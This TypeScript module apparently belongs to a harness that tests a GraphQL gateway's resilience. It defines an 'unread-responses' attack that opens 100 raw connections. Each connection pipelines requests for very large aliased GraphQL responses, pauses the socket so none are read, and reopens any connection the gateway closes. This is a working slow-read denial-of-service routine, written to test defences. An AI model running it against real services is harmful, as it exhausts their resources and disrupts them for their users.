import { type Socket, connect } from 'node:net';
import type { Attack } from './attack.ts';

const CONNECTIONS = 100;
const RESPONSES = 4;

/** As many books with as many aliases of a field as the default limits allow, which makes the largest response of the reference graph. */
const FIELDS = Array.from({ length: 40 }, (_, index) => `a${index}: title b${index}: author`).join(' ');
const QUERY = `{ posts(first: 100) { nodes { ${FIELDS.replaceAll(': author', ': content')} } } }`;

/** Opens connections that ask for large responses and read none of them; a connection that the gateway closes is opened again. */
export const unreadResponses: Attack = {
  name: 'unread-responses',
  point: 4,
  async run({ url, userToken }, signal) {
    const { hostname, port } = new URL(url);
    const body = JSON.stringify({ query: QUERY });
    const request =
      `POST /graphql HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nAuthorization: Bearer ${userToken}\r\n` +
      `Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
    const open = new Set<Socket>();
    const dial = (): void => {
      if (signal.aborted) return;
      const socket = connect(Number(port), hostname, () => socket.write(request.repeat(RESPONSES)));
      open.add(socket.pause());
      socket.on('error', () => undefined);
      socket.on('close', () => {
        open.delete(socket);
        setTimeout(dial, 100);
      });
    };
    for (let count = 0; count < CONNECTIONS; count += 1) dial();
    await new Promise<void>((resolve) => {
      signal.addEventListener('abort', () => resolve(), { once: true });
    });
    for (const socket of open) socket.destroy();
  },
};
